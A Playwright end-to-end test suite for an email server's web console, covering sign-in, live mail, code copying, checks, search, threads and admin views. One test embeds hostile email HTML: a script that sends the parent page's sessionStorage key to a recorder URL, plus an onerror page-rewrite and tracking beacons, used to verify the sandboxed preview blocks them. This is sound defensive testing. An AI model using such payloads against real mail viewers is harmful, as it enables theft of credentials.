// The browser console (CONTRACT §16) from the built executable, in Debian's chromium: sign in with a pasted key, live
// mail over SSE after an SMTP send, the message view and its copy button, a hostile mail's HTML in the sandboxed
// preview, keyboard use, dark mode, admin views, and routes this server may lack.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { takeScreenshots } from '../../scripts/screenshots.ts';
import { ADMIN_KEY, builtBinary, chromiumMissing, launchChromium, type Running, recorder, startServer } from '../helpers/console.ts';
import { sendMail } from '../helpers/smtp.ts';

const missing = chromiumMissing();

describe('browser console', { skip: missing ?? false }, () => {
  let server: Running;
  let browser: Browser;
  let remote: Awaited<ReturnType<typeof recorder>>;
  const contexts: BrowserContext[] = [];

  before(async () => {
    // Callbacks to the local test receiver (loopback, plain http) are allowed here.
    server = await startServer(builtBinary(), ['--allow-http-callbacks', '--allow-private-callbacks']);
    remote = await recorder();
    browser = await launchChromium();
  });

  after(async () => {
    for (const c of contexts) await c.close().catch(() => undefined);
    await browser?.close().catch(() => undefined);
    await remote?.close();
    await server?.stop();
  });

  async function open(opts: { colorScheme?: 'light' | 'dark'; signIn?: boolean } = {}): Promise<Page> {
    const ctx = await browser.newContext({ colorScheme: opts.colorScheme ?? 'light', viewport: { width: 1360, height: 900 } });
    contexts.push(ctx);
    await ctx.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: server.base });
    const page = await ctx.newPage();
    await page.goto(`${server.base}/`);
    if (opts.signIn !== false) {
      await page.fill('#key', ADMIN_KEY);
      await page.press('#key', 'Enter');
      await page.waitForSelector('header.top');
    }
    return page;
  }

  async function newInbox(label = 'console-e2e'): Promise<{ inboxId: string; address: string }> {
    return server.api('/v1/inboxes', { method: 'POST', body: { label } });
  }

  test('GET / serves the page with a strict CSP; assets are hashed and cached for a year', async () => {
    const res = await fetch(`${server.base}/`);
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^text\/html/);
    const csp = res.headers.get('content-security-policy') ?? '';
    for (const d of ["default-src 'none'", "script-src 'self'", "connect-src 'self'", "frame-ancestors 'none'", "base-uri 'none'"]) {
      assert.ok(csp.includes(d), `CSP lacks ${d}: ${csp}`);
    }
    assert.doesNotMatch(csp, /unsafe-eval|script-src[^;]*unsafe-inline/);
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(res.headers.get('referrer-policy'), 'no-referrer');
    const page = await res.text();
    assert.doesNotMatch(page, /<script>|<script [^>]*>[^<]/, 'no inline script');
    const assets = [...page.matchAll(/(?:src|href)="\.(\/console\/console\.[0-9a-f]{12}\.(?:js|css))"/g)].map((m) => m[1]!);
    assert.equal(assets.length, 2, page);
    for (const a of assets) {
      const r = await fetch(server.base + a);
      assert.equal(r.status, 200, a);
      assert.match(r.headers.get('cache-control') ?? '', /max-age=31536000.*immutable/);
      assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
      assert.ok((await r.arrayBuffer()).byteLength > 1000);
    }
    const gone = await fetch(`${server.base}/console/console.000000000000.js`);
    assert.equal(gone.status, 404);
    await gone.arrayBuffer();
  });

  test('the pasted key lives in sessionStorage only: not in the URL, not in localStorage; a wrong key is refused', async () => {
    const page = await open({ signIn: false });
    await page.fill('#key', 'ibx_wrongwrongwrongwrongwrongwrong00');
    await page.press('#key', 'Enter');
    await page.waitForSelector('.login [role="alert"]');
    assert.match((await page.textContent('.login [role="alert"]')) ?? '', /refused/);
    await page.fill('#key', ADMIN_KEY);
    await page.press('#key', 'Enter');
    await page.waitForSelector('header.top');
    const where = await page.evaluate(() => ({
      url: location.href,
      session: Object.values(sessionStorage),
      local: Object.values(localStorage),
    }));
    assert.ok(!where.url.includes(ADMIN_KEY));
    assert.deepEqual(where.session, [ADMIN_KEY]);
    assert.ok(!where.local.includes(ADMIN_KEY));
    // A reload keeps the session; "Forget key" removes it.
    await page.reload();
    await page.waitForSelector('header.top');
    await page.click('text=Forget key');
    await page.waitForSelector('#key');
    assert.deepEqual(await page.evaluate(() => Object.values(sessionStorage)), []);
  });

  test('mail sent over SMTP appears live; the message opens with its code highlighted, and Copy puts the code on the clipboard', async () => {
    const inbox = await newInbox();
    const page = await open();
    await page.click(`[data-inbox-id="${inbox.inboxId}"]`);
    await page.waitForSelector('.live-live');
    await sendMail(server.smtpPort, {
      to: inbox.address,
      subject: 'Your sign-in code',
      text: 'Hello,\n\nyour code is 482913. It expires in 10 minutes.\n',
      html: '<p>Hello,</p><p>your code is <b>482913</b>.</p>',
      attachments: [{ filename: 'receipt.txt', content: 'paid in full\n', contentType: 'text/plain' }],
    });
    const item = await page.waitForSelector('[data-nav="messages"]');
    assert.match((await item.textContent()) ?? '', /Your sign-in code/);
    assert.match((await item.textContent()) ?? '', /code 482913/);
    await item.click();
    await page.waitForSelector('#otp');
    assert.equal(await page.textContent('#otp'), '482913');
    await page.click('.verification button[data-copy="code"]');
    await page.waitForFunction(() => document.getElementById('announce')?.textContent === 'Copied code');
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), '482913');
    // The text part marks the code where it appears.
    await page.click('[role="tab"]#tab-text');
    assert.equal(await page.textContent('pre.text mark'), '482913');
    // Raw source through the .eml route, and the attachment as a download (both fetched with the key).
    await page.click('[role="tab"]#tab-raw');
    assert.match((await (await page.waitForSelector('pre.raw')).textContent()) ?? '', /^Subject: Your sign-in code\r?$/m);
    await page.click('[role="tab"]#tab-attachments');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('.attachments button')]);
    assert.equal(download.suggestedFilename(), 'receipt.txt');
    const saved = await download.path();
    assert.equal(fs.readFileSync(saved, 'utf8'), 'paid in full\n');
  });

  test('the Checks tab runs the checks, counts findings per check, and a finding jumps to its line in the source', async () => {
    const inbox = await newInbox();
    // Line 3 holds the image without alt; line 4 the script.
    const body = [
      '<html><head><title>Order</title></head>',
      '<body><h1>Your order</h1>',
      '<p><img src="https://shop.test/p.png"></p>',
      '<script>x()</script>',
      '</body></html>',
    ].join('\n');
    await sendMail(server.smtpPort, { to: inbox.address, subject: 'Checks tab', html: body, text: 'Your order' });
    const page = await open();
    await page.click(`[data-inbox-id="${inbox.inboxId}"]`);
    await (await page.waitForSelector('[data-nav="messages"]')).click();
    await page.click('[role="tab"]#tab-checks');
    await page.waitForSelector('text=No checks have run on this message yet.');
    await page.click('#run-checks');
    await page.waitForSelector('.checks[data-status="failed"]');
    const sections = await page.$$eval('section.check', (els) => els.map((e) => e.getAttribute('data-check')));
    assert.deepEqual(sections, ['compat', 'html', 'a11y', 'text', 'links', 'auth', 'spam']);
    assert.match((await page.textContent('.check-counts')) ?? '', /html\s*failed/);
    const alt = await page.waitForSelector('section[data-check="a11y"] li[data-rule="img-missing-alt"] a.jump');
    assert.equal(await alt.textContent(), 'html:3:4');
    await alt.click();
    const hit = await page.waitForSelector('ol.source-lines li.hit');
    assert.equal(await hit.getAttribute('id'), 'src-html-L3');
    assert.match((await hit.textContent()) ?? '', /<img src="https:\/\/shop\.test\/p\.png">/);
    assert.equal(await page.getAttribute('[role="tab"]#tab-source', 'aria-selected'), 'true');
    // The report stays: opening the tab again shows it without running the checks again.
    await page.click('[role="tab"]#tab-checks');
    await page.waitForSelector('section[data-check="html"] li[data-rule="script"]');
  });

  test('hostile HTML: no script runs, no handler fires, no remote image loads until asked; the key and the page stay out of reach', async () => {
    const inbox = await newInbox();
    const page = await open();
    await page.goto(`${server.base}/#/inbox/${inbox.inboxId}`);
    await page.waitForSelector('.live-live');
    const r = remote.url;
    await sendMail(server.smtpPort, {
      to: inbox.address,
      subject: 'Totally harmless',
      text: 'see the HTML part',
      html:
        `<p id="p">hello</p>` +
        `<script>try{parent.document.title='pwned-parent'}catch(e){}document.title='pwned';` +
        `new Image().src='${r}/script?k='+encodeURIComponent(String(Object.values(parent.sessionStorage)));top.location='${r}/top'</script>` +
        `<img src="x" onerror="new Image().src='${r}/onerror';parent.document.body.innerHTML='forged'">` +
        `<img id="pixel" src="${r}/pixel.gif" width="1" height="1">` +
        `<div style="background:url(${r}/css-bg.gif)">bg</div>` +
        `<form action="${r}/form"><input name="q" value="1"><button id="sub">go</button></form>` +
        `<a id="out" href="${r}/clicked" target="_top">click me</a><a id="in" href="${r}/clicked-in-frame">or me</a>`,
    });
    await (await page.waitForSelector('[data-nav="messages"]')).click();
    const frameEl = await page.waitForSelector('iframe.preview-frame');
    const frame = await frameEl.contentFrame();
    assert.ok(frame);
    await frame.waitForLoadState('load');
    // The load event waits for every image: whatever the default preview was going to request, it has by now.
    assert.equal(await frame.textContent('#p'), 'hello');
    assert.equal(remote.paths.length, 0, `nothing may reach the remote server: ${remote.paths.join(', ')}`);
    assert.equal(await page.title(), 'inboxd console');
    assert.ok(page.url().startsWith(server.base), page.url());
    assert.ok(await page.isVisible('.verification, .message-head'));
    assert.equal(await page.textContent('#announce').then((t) => (t ?? '').includes('forged')), false);
    assert.equal(await frameEl.getAttribute('sandbox'), '', 'sandbox with no allow-* flag');

    // Neither the form nor a target=_top link can leave the frame.
    await frame.click('#sub').catch(() => undefined);
    await frame.click('#out').catch(() => undefined);
    await frame.click('#in').catch(() => undefined);
    await page.waitForSelector('#toggle-images');
    assert.ok(page.url().startsWith(server.base), page.url());

    // Remote images only on request: the pixel loads then, the script and the handler still do not run.
    await page.click('#toggle-images');
    const deadline = Date.now() + 10_000;
    while (!remote.paths.includes('/pixel.gif') && Date.now() < deadline) await new Promise((res) => setTimeout(res, 50));
    assert.ok(remote.paths.includes('/pixel.gif'), `remote images on: ${JSON.stringify(remote.paths)}`);
    const frame2 = await (await page.waitForSelector('iframe.preview-frame')).contentFrame();
    await frame2?.waitForLoadState('load');
    for (const p of remote.paths) assert.match(p, /^\/(pixel|css-bg)\.gif$/, `unexpected request ${p}`);
    assert.equal(await page.title(), 'inboxd console');
  });

  test('keyboard only: sign in, pick the inbox, open the message, copy the code, switch tabs, close, help', async () => {
    const inbox = await newInbox('kbd-only');
    await server.api(`/v1/inboxes/${inbox.inboxId}/simulate`, { method: 'POST', body: { scenario: 'otp' } });
    const page = await open({ signIn: false });
    // The key field takes focus on load.
    await page.waitForSelector('#key:focus');
    await page.keyboard.type(ADMIN_KEY);
    await page.keyboard.press('Enter');
    await page.waitForSelector('header.top');
    // j walks the inbox list (newest first: this one) — also from the overview, whose hint says so — and Enter
    // opens it and moves focus into it.
    await page.waitForSelector(`[data-inbox-id="${inbox.inboxId}"]`);
    await page.keyboard.press('j');
    assert.equal(await page.evaluate(() => (document.activeElement as HTMLElement).dataset['inboxId']), inbox.inboxId);
    await page.keyboard.press('Enter');
    await page.waitForSelector('[data-nav="messages"]');
    await page.waitForFunction(() => document.activeElement?.id === 'main');
    await page.keyboard.press('j');
    await page.waitForSelector('.verification');
    const focused = await page.evaluate(() => {
      const el = document.activeElement as HTMLElement;
      return { nav: el.dataset['nav'], outline: getComputedStyle(el).outlineStyle };
    });
    assert.equal(focused.nav, 'messages');
    assert.notEqual(focused.outline, 'none', 'the focused item shows a focus ring');
    const otp = (await page.textContent('#otp')) ?? '';
    assert.match(otp, /^\S+$/);
    await page.keyboard.press('c');
    await page.waitForFunction(() => document.getElementById('announce')?.textContent === 'Copied code');
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), otp);
    await page.keyboard.press('4');
    await page.waitForSelector('#tab-headers[aria-selected="true"]');
    await page.keyboard.press('Escape');
    await page.waitForFunction(() => !document.querySelector('.verification'));
    assert.equal(await page.evaluate(() => (document.activeElement as HTMLElement).dataset['nav']), 'messages');
    await page.keyboard.press('?');
    await page.waitForSelector('dialog.help[open]');
    assert.match((await page.textContent('dialog.help')) ?? '', /copy the extracted code/);
    await page.keyboard.press('Escape');
    await page.waitForFunction(() => !document.querySelector('dialog.help'));
    // Tab reaches the search box from the top of the page.
    await page.keyboard.press('/');
    assert.equal(await page.evaluate(() => document.activeElement?.id), 'search');
  });

  test('the callback delivery log lists each attempt with its outcome', async () => {
    const receiver = await recorder();
    try {
      const inbox = await server.api('/v1/inboxes', {
        method: 'POST',
        body: { label: 'callbacks-e2e', callbackUrl: `${receiver.url}/hook` },
      });
      await server.api(`/v1/inboxes/${inbox.inboxId}/simulate`, { method: 'POST', body: { scenario: 'otp' } });
      const page = await open();
      await page.goto(`${server.base}/#/inbox/${inbox.inboxId}/callbacks`);
      // The delivery is made after the message is stored: refresh until its row is there.
      const deadline = Date.now() + 15_000;
      for (;;) {
        await page.waitForSelector('section[aria-label="Callback deliveries"] :is(table, .empty, .error)');
        if (await page.$('section[aria-label="Callback deliveries"] tr.ok')) break;
        assert.ok(Date.now() < deadline, `no delivered row: ${await page.textContent('main')}`);
        await new Promise((res) => setTimeout(res, 200));
        await page.click('section[aria-label="Callback deliveries"] >> text=Refresh');
      }
      assert.match((await page.textContent('tr.ok')) ?? '', /delivered \(200\)/);
      assert.deepEqual(receiver.paths, ['/hook']);
    } finally {
      await receiver.close();
    }
  });

  test('dark mode follows the system, and the toggle (t) overrides it and is remembered', async () => {
    const page = await open({ colorScheme: 'dark' });
    const bg = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    assert.equal(await bg(), 'rgb(18, 20, 23)');
    await page.keyboard.press('t');
    await page.waitForFunction(() => document.documentElement.dataset['theme'] === 'light');
    assert.equal(await bg(), 'rgb(247, 247, 248)');
    await page.reload();
    await page.waitForSelector('header.top');
    assert.equal(await bg(), 'rgb(247, 247, 248)');
  });

  test('admins see keys and the audit log: a key made here is shown once and audited', async () => {
    const page = await open();
    await page.click('nav[aria-label="Views"] >> text=Keys');
    await page.fill('.create-key input[required]', 'made-in-console');
    await page.click('.create-key button[type="submit"]');
    const secret = (await (await page.waitForSelector('.secret code.otp')).textContent()) ?? '';
    assert.match(secret, /^ibx_[A-Za-z0-9]{32}$/);
    // The list reloads after the create: wait for the new row rather than reading the table as it was.
    await page.waitForSelector('table.grid >> text=made-in-console', { timeout: 5000 });
    await page.click('nav[aria-label="Views"] >> text=Audit');
    // The keys table stays on the page until the audit view has loaded: wait for the audit row itself.
    const row = await page.waitForSelector('table.grid >> text=key.create', { timeout: 5000 });
    assert.match((await row.textContent()) ?? '', /key\.create/);
  });

  test('a route this server lacks is said to be missing, not shown as a failure', async () => {
    const page = await open();
    await page.route('**/v1/console/threads*', (route) =>
      route.fulfill({
        status: 404,
        contentType: 'application/problem+json',
        body: JSON.stringify({
          type: 'about:blank',
          title: 'Not Found',
          status: 404,
          code: 'not_found',
          detail: 'no such endpoint: GET /v1/console/threads',
        }),
      }),
    );
    await page.click('nav[aria-label="Views"] >> text=Threads');
    const note = await page.waitForSelector('.note[role="status"]');
    assert.match((await note.textContent()) ?? '', /does not offer recent threads/);
  });

  test('scripts/screenshots.ts writes the README screenshots', async () => {
    const out = fs.mkdtempSync(path.join(os.tmpdir(), 'inboxd-console-shots-'));
    try {
      const files = await takeScreenshots(out, builtBinary());
      assert.ok(files.includes('message.png') && files.includes('message-dark.png'), files.join());
      for (const f of files) assert.deepEqual([...fs.readFileSync(path.join(out, f)).subarray(1, 4)], [0x50, 0x4e, 0x47], `${f} is a PNG`);
    } finally {
      fs.rmSync(out, { recursive: true, force: true });
    }
  });

  test('the overview shows counts, top labels (a click filters the inbox list) and recent mail', async () => {
    const inbox = await newInbox('overview-e2e');
    await server.api(`/v1/inboxes/${inbox.inboxId}/simulate`, { method: 'POST', body: { scenario: 'otp' } });
    const page = await open();
    await page.waitForSelector('section[aria-label="Summary"] :is(.tiles, .note, .error)');
    assert.match((await page.textContent('.tiles', { timeout: 1000 })) ?? '', /inboxes/);
    await page.click('section[aria-label="Summary"] table >> text=overview-e2e');
    await page.waitForFunction(() => (document.getElementById('label-filter') as HTMLInputElement | null)?.value === 'overview-e2e');
    await page.waitForSelector(`.sidebar [data-inbox-id="${inbox.inboxId}"]`);
    assert.equal(await page.$$eval('.sidebar [data-nav="inboxes"]', (els) => els.length), 1);
    const recent = await page.waitForSelector('[data-nav="recent"]');
    await recent.click();
    await page.waitForSelector('.message-head');
  });

  test('search finds a message by its words and opens it', async () => {
    const inbox = await newInbox('search-e2e');
    await sendMail(server.smtpPort, { to: inbox.address, subject: 'Quarterly zebra report', text: 'the zebra numbers are in' });
    await server.api(`/v1/inboxes/${inbox.inboxId}/wait?timeoutSeconds=10`);
    const page = await open();
    await page.keyboard.press('/');
    await page.keyboard.type('zebra');
    await page.keyboard.press('Enter');
    // The answer, or the note/error the view shows instead (fails at once rather than at a selector timeout).
    await page.waitForSelector('[data-nav="search"], section[aria-label="Search results"] :is(.note, .error, .empty)');
    const hit = await page.waitForSelector('[data-nav="search"]', { timeout: 1000 });
    assert.match((await hit.textContent()) ?? '', /Quarterly zebra report/);
    assert.match((await page.innerHTML('[data-nav="search"] .snippet')) ?? '', /<mark>zebra<\/mark>/i);
    await hit.click();
    await page.waitForSelector('.message-head');
    assert.match((await page.textContent('#message-subject')) ?? '', /Quarterly zebra report/);
  });

  // Issue 27: first-day defects of the console.

  test('the sign-in page names <data-dir>/admin.key, not its HTML escape', async () => {
    const page = await open({ signIn: false });
    const text = (await page.textContent('.login')) ?? '';
    assert.ok(text.includes('<data-dir>/admin.key'), text);
    assert.doesNotMatch(text, /&lt;|&gt;/);
  });

  test('sent and received mail are told apart: a sent copy says Sent, with the delivery state of each recipient', async () => {
    const a = await newInbox('direction-e2e');
    const b = await newInbox('direction-e2e');
    await server.api(`/v1/inboxes/${a.inboxId}/send`, {
      method: 'POST',
      body: { to: b.address, subject: 'Shipping note', text: 'shipped today' },
    });
    await server.api(`/v1/inboxes/${b.inboxId}/wait?timeoutSeconds=10`);
    // The console's counts of received mail leave the sender's copy out.
    assert.equal((await server.api(`/v1/console/inboxes/${a.inboxId}`)).messages.counts.received, 0);
    assert.equal((await server.api(`/v1/console/inboxes/${b.inboxId}`)).messages.counts.received, 1);
    const page = await open();
    await page.goto(`${server.base}/#/inbox/${a.inboxId}`);
    const sent = await page.waitForSelector('[data-nav="messages"]');
    assert.equal(await sent.getAttribute('data-direction'), 'outbound');
    const sentText = (await sent.textContent()) ?? '';
    assert.match(sentText, /\bsent\b/i);
    assert.doesNotMatch(sentText, /received/i);
    // The list names who it went to, not the inbox itself as the sender.
    assert.ok(sentText.includes(b.address), sentText);
    await sent.click();
    const head = await page.waitForSelector('.message-head');
    const meta = (await head.textContent()) ?? '';
    assert.match(meta, /Sent/);
    assert.doesNotMatch(meta, /Received/);
    const delivery = await page.waitForSelector(`.deliveries [data-address="${b.address}"]`);
    assert.equal(await delivery.getAttribute('data-state'), 'sent');
    assert.match((await delivery.textContent()) ?? '', /local/);
    // The recipient's copy is received mail (it came by inboxd's own send, which no longer looks like "sent").
    await page.goto(`${server.base}/#/inbox/${b.inboxId}`);
    await page.waitForSelector(`#inbox-address >> text=${b.address}`);
    const got = await page.waitForSelector('[data-nav="messages"]');
    assert.equal(await got.getAttribute('data-direction'), 'inbound');
    const gotText = (await got.textContent()) ?? '';
    assert.match(gotText, /received/i);
    assert.doesNotMatch(gotText, /\bsent\b/i);
    await got.click();
    assert.match((await (await page.waitForSelector('.message-head')).textContent()) ?? '', /Received/);
  });

  test('counts follow a live arrival: the inbox header and the inbox list, without waiting for a poll', async () => {
    const inbox = await newInbox('counts-e2e');
    const ctx = await browser.newContext({ viewport: { width: 1360, height: 900 } });
    contexts.push(ctx);
    // The side bar also re-reads the list every 10 s: switched off here, so only the arrival itself can update it.
    await ctx.addInitScript(() => {
      const real = window.setInterval.bind(window);
      (window as unknown as { setInterval: unknown }).setInterval = (f: TimerHandler, ms?: number, ...rest: unknown[]) =>
        (ms ?? 0) >= 10_000 ? 0 : real(f, ms, ...rest);
    });
    const page = await ctx.newPage();
    await page.goto(`${server.base}/`);
    await page.fill('#key', ADMIN_KEY);
    await page.press('#key', 'Enter');
    await page.waitForSelector('header.top');
    await page.goto(`${server.base}/#/inbox/${inbox.inboxId}`);
    await page.waitForSelector('.live-live');
    const side = `.sidebar [data-inbox-id="${inbox.inboxId}"]`;
    await page.waitForSelector(side);
    assert.match((await page.textContent(side)) ?? '', /(^|\D)0 msg\b/);
    assert.match((await page.textContent('.inbox-head')) ?? '', /\b0 (messages|received)\b/);
    await sendMail(server.smtpPort, { to: inbox.address, subject: 'count me', text: 'code 551234' });
    await page.waitForSelector('[data-nav="messages"]');
    await page.waitForFunction((sel) => /(^|\D)1 msg\b/.test(document.querySelector(sel)?.textContent ?? ''), side, { timeout: 5000 });
    await page.waitForFunction(() => /\b1 (messages?|received)\b/.test(document.querySelector('.inbox-head')?.textContent ?? ''), null, {
      timeout: 5000,
    });
    // The code count comes from the inbox's aggregates, a request of its own after the arrival: wait for it too.
    await page.waitForFunction(() => /\b1 with a code or link\b/.test(document.querySelector('.inbox-head')?.textContent ?? ''), null, {
      timeout: 5000,
    });
  });

  test('the overview tiles follow new mail while the overview is open', async () => {
    const page = await open();
    await page.waitForSelector('section[aria-label="Summary"] .tile');
    const received = () =>
      page.evaluate(() => {
        const tile = Array.from(document.querySelectorAll('.tile')).find((t) => /received today/.test(t.textContent ?? ''));
        return Number(tile?.querySelector('.value')?.textContent);
      });
    const before = await received();
    assert.ok(Number.isInteger(before), String(before));
    const inbox = await newInbox('overview-live-e2e');
    await server.api(`/v1/inboxes/${inbox.inboxId}/simulate`, { method: 'POST', body: { scenario: 'otp' } });
    const deadline = Date.now() + 12_000;
    while ((await received()) <= before) {
      assert.ok(Date.now() < deadline, `the received tile stayed at ${before}`);
      await new Promise((r) => setTimeout(r, 200));
    }
  });

  test('Back restores the search box of that history entry, and empties it where there was none', async () => {
    const page = await open();
    const results = (q: string) => page.waitForSelector(`section[aria-label="Search results"] h2 q >> text=${q}`);
    await page.keyboard.press('/');
    await page.keyboard.type('alpha');
    await page.keyboard.press('Enter');
    await results('alpha');
    await page.fill('#search', 'beta');
    await page.press('#search', 'Enter');
    await results('beta');
    // The results and the box are restored by the same history step, not necessarily in the same frame: wait for
    // the box (a few seconds at most), then check it.
    const box = (v: string) =>
      page
        .waitForFunction((want) => (document.querySelector('#search') as HTMLInputElement | null)?.value === want, v, { timeout: 5000 })
        .catch(() => {});
    await page.goBack();
    await results('alpha');
    await box('alpha');
    assert.equal(await page.inputValue('#search'), 'alpha');
    await page.goBack();
    await page.waitForSelector('section[aria-label="Summary"]');
    await box('');
    assert.equal(await page.inputValue('#search'), '');
    await page.goForward();
    await results('alpha');
    await box('alpha');
    assert.equal(await page.inputValue('#search'), 'alpha');
  });

  test('times carry a date unless they are today, in the browser locale, with the full timestamp on hover', async () => {
    const inbox = await newInbox('times-e2e');
    const sim = await server.api(`/v1/inboxes/${inbox.inboxId}/simulate`, { method: 'POST', body: { scenario: 'otp' } });
    const m = await server.api(`/v1/inboxes/${inbox.inboxId}/messages/${sim.messageId}`);
    const at = new Date(m.receivedAt as string);
    assert.ok(!Number.isNaN(at.getTime()), JSON.stringify(m));
    const ctx = await browser.newContext({ locale: 'de-DE', timezoneId: 'UTC', viewport: { width: 1360, height: 900 } });
    contexts.push(ctx);
    const page = await ctx.newPage();
    const shown = async () => {
      if (await page.$('#key')) {
        await page.fill('#key', ADMIN_KEY);
        await page.press('#key', 'Enter');
        await page.waitForSelector('header.top');
      }
      await page.goto(`${server.base}/#/inbox/${inbox.inboxId}`);
      return page.waitForSelector('[data-nav="messages"] time');
    };
    await page.goto(`${server.base}/`);
    const pad = (n: number) => String(n).padStart(2, '0');
    const day = `${pad(at.getUTCDate())}.${pad(at.getUTCMonth() + 1)}.${at.getUTCFullYear()}`;
    const clock = `${pad(at.getUTCHours())}:${pad(at.getUTCMinutes())}`;
    // Today: the time of day.
    let t = await shown();
    assert.equal(((await t.textContent()) ?? '').trim(), clock);
    const title = (await t.getAttribute('title')) ?? '';
    assert.ok(title.includes(day) || title.includes(String(at.getUTCFullYear())), title);
    assert.match(title, /\d{2}:\d{2}:\d{2}/);
    assert.doesNotMatch(title, /^\d{4}-\d{2}-\d{2}T/);
    // Three days later the same message shows its date too.
    await page.clock.setFixedTime(new Date(at.getTime() + 3 * 86_400_000));
    await page.reload();
    t = await shown();
    const text = ((await t.textContent()) ?? '').trim();
    assert.ok(text.includes(day) && text.includes(clock), text);
  });

  test('search hits show their inbox address and whether they were sent or received', async () => {
    const a = await newInbox('hits-e2e');
    const b = await newInbox('hits-e2e');
    await server.api(`/v1/inboxes/${a.inboxId}/send`, {
      method: 'POST',
      body: { to: b.address, subject: 'Kumquat delivery', text: 'the kumquat crates left' },
    });
    await server.api(`/v1/inboxes/${b.inboxId}/wait?timeoutSeconds=10`);
    // Indexing follows the store by a moment: wait until the API finds both copies (the sent one in A, the received in B).
    const found = async () =>
      new Set(((await server.api('/v1/search?q=kumquat')).items as Array<{ inboxId: string }>).map((x) => x.inboxId));
    for (let i = 0; !(await found()).has(b.inboxId) || !(await found()).has(a.inboxId); i++) {
      assert.ok(i < 100, 'the search index never found the mail');
      await new Promise((r) => setTimeout(r, 100));
    }
    const page = await open();
    await page.goto(`${server.base}/#/search?q=kumquat`);
    // Both hits (the API already finds both); "Searching…" is shown until then.
    await page.waitForFunction(() => document.querySelectorAll('[data-nav="search"]').length >= 2, null, { timeout: 5000 });
    // Each hit names the inbox it is in (the tag line under the subject) and its direction.
    const hits = await page.$$eval('[data-nav="search"]', (els) =>
      els.map((e) => ({ tags: e.querySelector('.row3')?.textContent ?? '', all: e.textContent ?? '' })),
    );
    assert.ok(hits.length >= 1, 'no hit');
    const received = hits.find((h) => h.tags.includes(b.address));
    assert.ok(received, `no hit names ${b.address}: ${JSON.stringify(hits)}`);
    assert.match(received.tags, /received/i);
    assert.doesNotMatch(received.tags, /sent/i);
    const sent = hits.find((h) => h.tags.includes(a.address));
    assert.ok(sent, `no hit names ${a.address}: ${JSON.stringify(hits)}`);
    assert.match(sent.tags, /sent/i);
    assert.doesNotMatch(sent.tags, /received/i);
  });

  test('inline cid: images show in the preview and are not listed as attachments; text derived from HTML is marked', async () => {
    const inbox = await newInbox('cid-e2e');
    const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
    await sendMail(server.smtpPort, {
      to: inbox.address,
      subject: 'Logo inside',
      html: '<p>Our logo:</p><img id="logo" src="cid:logo.1@acme.example" alt="logo"><p>Thanks</p>',
      attachments: [
        { filename: 'logo.png', content: png, contentType: 'image/png', cid: 'logo.1@acme.example' },
        { filename: 'terms.txt', content: 'terms\n', contentType: 'text/plain' },
      ],
    });
    const m = await server.api(`/v1/inboxes/${inbox.inboxId}/wait?timeoutSeconds=10`);
    const page = await open();
    // Once as this server answers, once as a server with derived text and the `inline` flag answers.
    for (const stub of [false, true]) {
      if (stub) {
        await page.route(`**/v1/inboxes/${inbox.inboxId}/messages/${m.messageId}`, async (route) => {
          const res = await route.fetch();
          const body = (await res.json()) as { attachments: Array<{ filename: string; inline?: boolean }> } & Record<string, unknown>;
          body.text = 'Our logo:\n\nThanks';
          body.textSource = 'html';
          for (const att of body.attachments) att.inline = att.filename === 'logo.png';
          await route.fulfill({ response: res, json: body });
        });
      }
      await page.goto(`${server.base}/#/inbox/${inbox.inboxId}/m/${m.messageId}`);
      if (stub) await page.reload();
      const frame = await (await page.waitForSelector('iframe.preview-frame')).contentFrame();
      assert.ok(frame);
      await frame.waitForSelector('#logo');
      await frame.waitForFunction(() => (document.getElementById('logo') as HTMLImageElement).naturalWidth > 0, null, { timeout: 5000 });
      assert.equal(await page.getAttribute('iframe.preview-frame', 'sandbox'), '');
      assert.match((await page.textContent('#tab-attachments')) ?? '', /\(1\)/);
      await page.click('#tab-attachments');
      const listed = (await (await page.waitForSelector('.panel :is(.attachments, .empty)')).textContent()) ?? '';
      assert.ok(listed.includes('terms.txt') && !listed.includes('logo.png'), listed);
      if (stub) {
        await page.click('#tab-text');
        await page.waitForSelector('pre.text');
        assert.match((await page.textContent('pre.text')) ?? '', /Our logo:/);
        assert.match((await page.textContent('.panel')) ?? '', /derived from the HTML/i);
      }
    }
  });

  test('threads: a reply joins its thread, listed per inbox and across inboxes, oldest message first', async () => {
    const inbox = await newInbox('threads-e2e');
    const first = await sendMail(server.smtpPort, { to: inbox.address, subject: 'Plans for Friday', text: 'lunch?' });
    await sendMail(server.smtpPort, {
      to: inbox.address,
      subject: 'Re: Plans for Friday',
      text: 'yes',
      inReplyTo: first.messageId,
      references: [first.messageId],
    });
    const page = await open();
    await page.goto(`${server.base}/#/inbox/${inbox.inboxId}/threads`);
    await page.waitForSelector('[data-nav="threads"], section[aria-label="Threads"] :is(.note, .error, .empty)');
    const t = await page.waitForSelector('[data-nav="threads"]', { timeout: 1000 });
    assert.match((await t.textContent()) ?? '', /Plans for Friday/);
    assert.match((await t.textContent()) ?? '', /2 msg/);
    await t.click();
    await page.waitForSelector('ol.thread [data-nav="thread-messages"]');
    const msgs = await page.$$eval('ol.thread [data-nav="thread-messages"] .subject', (els) => els.map((e) => e.textContent));
    assert.deepEqual(msgs, ['Plans for Friday', 'Re: Plans for Friday']);
    await page.click('nav[aria-label="Views"] >> text=Threads');
    // The per-inbox list's rows are still in the page while the cross-inbox view loads: wait for that view's row.
    await page.waitForSelector('section[aria-label="Recent threads"] [data-thread-id] >> text=Plans for Friday', { timeout: 5000 });
  });
});
